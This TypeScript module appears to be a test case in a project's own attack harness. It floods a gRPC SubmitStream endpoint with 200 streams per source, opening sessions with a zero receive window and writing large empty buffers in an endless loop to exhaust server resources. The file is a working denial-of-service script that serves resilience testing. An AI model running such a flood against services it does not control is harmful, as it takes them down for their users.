import { type Attack, beginCall, nextTurn, openFrom } from "../support/attack.ts";

const CALLS = 200;

/** Sends as many empty messages as the windows take, on streams that are not read for a while. */
export const attack: Attack = {
  title: "empty messages on 200 submit streams",
  async run({ address, from }) {
    const messages = Buffer.alloc(5 * 13_000);
    const streams = from.flatMap((each) => {
      const session = openFrom(address, each, { initialWindowSize: 0 });
      return Array.from({ length: CALLS }, () =>
        beginCall(session, "/baton.v1.TaskService/SubmitStream"),
      );
    });
    for (;;) {
      for (const stream of streams) {
        if (!stream.writableNeedDrain) {
          stream.write(messages);
        }
      }
      await nextTurn();
    }
  },
};
